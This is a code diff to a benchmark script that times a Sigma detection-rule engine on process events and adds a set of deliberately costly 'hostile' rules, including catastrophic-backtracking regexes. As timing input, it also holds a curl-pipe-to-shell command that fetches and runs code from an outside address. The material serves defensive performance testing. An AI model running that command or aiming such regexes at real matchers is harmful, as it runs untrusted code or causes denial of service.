@@ -5,7 +5,7 @@ import { join, resolve } from 'node:path';
 import { cpuUsage, env } from 'node:process';
 import { parseArgs } from 'node:util';
 
-import { jsonEvent, loadRules, scalarsOf } from '@tidewaiter/sigma';
+import { jsonEvent, loadRules } from '@tidewaiter/sigma';
 import type { RuleFile, SigmaEvent } from '@tidewaiter/sigma';
 import { parse, stringify } from 'yaml';
 
@@ -18,11 +18,14 @@ const rounds = 5;
 
 const own = hasShared ? sigmaHq() : generated(475);
 const events = hasShared ? storylineEvents() : generatedEvents();
-console.log(`${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`);
+console.log(
+  `${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`,
+);
 console.log('rules  engine         events/s  candidates that match  first event ms');
-for (const count of options.rules.split(',').map(Number)) for (const interpreted of [false, true]) throughput(count, interpreted);
+for (const count of options.rules.split(',').map(Number))
+  for (const interpreted of [false, true]) throughput(count, interpreted);
 loading(3_000);
-worstRule();
+worstRules();
 
 function throughput(count: number, interpreted: boolean): void {
   const { rules } = loadRules(salted(own, count), { interpreted });
@@ -36,7 +39,9 @@ function throughput(count: number, interpreted: boolean): void {
   const best = Math.min(...Array.from({ length: rounds }, () => milliseconds(run)));
   const rate = (passes * events.length * 1_000) / best;
   const share = matched / ((rounds + 1) * passes * events.length);
-  console.log(`${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(21)}  ${first.toFixed(0).padStart(14)}`);
+  console.log(
+    `${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(21)}  ${first.toFixed(0).padStart(14)}`,
+  );
 }
 
 function loading(count: number): void {
@@ -46,26 +51,80 @@ function loading(count: number): void {
 }
 
 /** Each rule alone, asked about a command line that is made of the rule's own words. */
-function worstRule(): void {
-  const costs = own.map((file) => {
-    const { rules } = loadRules([file]);
-    const source = rules.rules.length > 0 ? logsourceOf(file) : {};
-    const event = (text: string) => jsonEvent({ Image: text, CommandLine: text, ParentImage: text, TargetFilename: text, message: text }, [source]);
-    const micros = commandLines(file.text).map((text) => {
-      const asked = event(text);
-      rules.match(asked);
-      const passes = 20;
-      return Math.min(...[1, 2, 3].map(() => (milliseconds(() => { for (let pass = 0; pass < passes; pass += 1) rules.match(asked); }) * 1_000) / passes));
-    });
-    return { path: file.path, micros: Math.max(...micros) };
-  });
-  console.log(`\nthe most expensive rules, ${longCommandLength} characters in five fields, us an event:`);
-  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 8)) console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
+function worstRules(): void {
+  const rules = [...own.map((file) => ({ file, texts: commandLines(file.text) })), ...hostile()];
+  const costs = rules.map(({ file, texts }) => ({
+    path: file.path,
+    micros: Math.max(...texts.map((text) => costOf(file, text))),
+  }));
+  console.log(`\nthe most expensive rules on a command line of ${longCommandLength} characters, us an event:`);
+  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 20))
+    console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
+}
+
+function costOf(file: RuleFile, text: string): number {
+  const { rules } = loadRules([file]);
+  if (rules.rules.length === 0) throw new Error(`${file.path} is refused`);
+  const event = jsonEvent({ Image: '/bin/sh', CommandLine: text }, [logsourceOf(file)]);
+  const passes = 20;
+  const run = () => {
+    for (let pass = 0; pass < passes; pass += 1) rules.match(event);
+  };
+  run();
+  return (Math.min(...[1, 2, 3].map(() => milliseconds(run))) * 1_000) / passes;
 }
 
 function commandLines(rule: string): string[] {
   const words = [...rule.matchAll(/- '?([^'\n]{2,60})'?$/gm)].map(([, word = '']) => word).join(' ');
-  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map((text) => text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength));
+  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map(long);
+}
+
+function long(text: string): string {
+  return text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength);
+}
+
+/** What somebody would write, and then send, who wants the detection to be busy. */
+function hostile(): { file: RuleFile; texts: string[] }[] {
+  const words = Array.from({ length: 5_000 }, (_, index) => `w${index.toString(36)} `);
+  const rule = (name: string, detection: object, ...texts: string[]) => ({
+    file: {
+      path: `hostile: ${name}`,
+      text: stringify({ title: name, logsource: { product: 'linux' }, detection: { s: detection, condition: 's' } }),
+    },
+    texts: texts.map(long),
+  });
+  return [
+    rule('5,000 values, all there', { 'CommandLine|contains|all': words.slice(0, 1_600) }, words.join('')),
+    rule('5,000 values, none there', { 'CommandLine|contains': words }, 'x '),
+    rule('5,000 whole values', { CommandLine: words }, 'w1 '),
+    rule(
+      'a in a in a',
+      { 'CommandLine|contains': Array.from({ length: 1_000 }, (_, index) => `${'a'.repeat(index + 1)}b`) },
+      'a',
+    ),
+    rule('cased', { 'CommandLine|contains|cased': words }, 'x '),
+    rule('stars', { CommandLine: `${'a*'.repeat(60)}b` }, 'a'),
+    rule(
+      '40 patterns',
+      { CommandLine: Array.from({ length: 40 }, (_, index) => `*a*b${index}*c*`) },
+      'a b1 b2 b3 b4 b5 b6 b7 b8 b9 ',
+      `${words.join('')}ab`,
+    ),
+    rule('question marks', { 'CommandLine|contains': 'a?a?a?a?a?a?a?a?b' }, 'a', 'aaaaaaaaaaaaaaaaac'),
+    rule('a page of question marks', { 'CommandLine|contains': `${'a?'.repeat(60)}b` }, 'a', `${'a'.repeat(300)}b`),
+    ...[
+      '(a+)+$',
+      '[a-z]+[0-9]+[a-z]+',
+      '(x+x+)+y',
+      'a.{50}b',
+      '(a|b)*a(a|b){12}c',
+      '.*a.*b.*c.*d',
+      '(?i)mi.*ner',
+      '(.){200,}',
+    ].map((source) =>
+      rule(`re ${source}`, { 'CommandLine|re': source }, 'a', 'x', 'ab', 'aab c1 miner ', 'abbabaaabbbabac'),
+    ),
+  ];
 }
 
 function milliseconds(run: () => unknown): number {
@@ -90,13 +149,19 @@ function salted(rules: readonly RuleFile[], count: number): RuleFile[] {
     const rule = parse(text) as Record<string, unknown>;
     const detection = rule['detection'] as Record<string, unknown>;
     const salt = (value: unknown, key: string): unknown => {
-      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref')) return value;
-      if (typeof value === 'string') return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
+      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref'))
+        return value;
+      if (typeof value === 'string')
+        return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
       if (Array.isArray(value)) return value.map((each) => salt(each, key));
-      if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
+      if (typeof value === 'object' && value !== null)
+        return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
       return typeof value === 'number' ? value + round * 100_000 : value;
     };
-    return { path: `${round}/${path}`, text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }) };
+    return {
+      path: `${round}/${path}`,
+      text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }),
+    };
   });
 }
 
@@ -107,10 +172,14 @@ function logsourceOf({ text }: RuleFile): object {
 function storylineEvents(): SigmaEvent[] {
   return readdirSync(join(shared, 'storylines'))
     .filter((file) => file.endsWith('.jsonl'))
-    .flatMap((file) => readFileSync(join(shared, 'storylines', file), 'utf8').trim().split('\n'))
+    .flatMap((file) =>
+      readFileSync(join(shared, 'storylines', file), 'utf8')
+        .trim()
+        .split('\n'),
+    )
     .flatMap((line) => {
       const { event } = JSON.parse(line) as { event: { process_exec?: { process: Tetragon; parent?: Tetragon } } };
-      return event.process_exec ? [processEvent(event, event.process_exec)] : [];
+      return event.process_exec ? [processEvent(event.process_exec)] : [];
     });
 }
 
@@ -122,7 +191,7 @@ interface Tetragon {
   pid: number;
 }
 
-function processEvent(native: object, { process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
+function processEvent({ process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
   const fields = new Map<string, unknown>([
     ['Image', process.binary],
     ['CommandLine', `${process.binary} ${process.arguments ?? ''}`.trim()],
@@ -132,8 +201,7 @@ function processEvent(native: object, { process, parent }: { process: Tetragon; 
     ['User', process.uid === 0 ? 'root' : String(process.uid)],
     ['ProcessId', process.pid],
   ]);
-  // To walk through the sensor's words is the work of the stage before.
-  const scalars = scalarsOf(native);
+  const scalars = [...fields.values()].filter((value) => value !== undefined) as (string | number)[];
   return { logsources: processes, field: (name) => fields.get(name), scalars: () => scalars };
 }
 
@@ -154,8 +222,12 @@ detection:
 
 function generatedEvents(): SigmaEvent[] {
   return Array.from({ length: 400 }, (_, index) => {
-    const native = { process_exec: { process: { binary: '/usr/bin/curl', cwd: '/app', arguments: `-fsS http://10.0.0.${index % 250}/healthz --word-${index}` } } };
-    const { process } = native.process_exec;
-    return processEvent(native, { process: { ...process, uid: 0, pid: index }, parent: { ...process, uid: 0, pid: 1 } });
+    const process = {
+      binary: '/usr/bin/curl',
+      cwd: '/app',
+      arguments: `http://10.0.0.${index % 250}/ --word-${index}`,
+      uid: 0,
+    };
+    return processEvent({ process: { ...process, pid: index }, parent: { ...process, pid: 1 } });
   });
 }
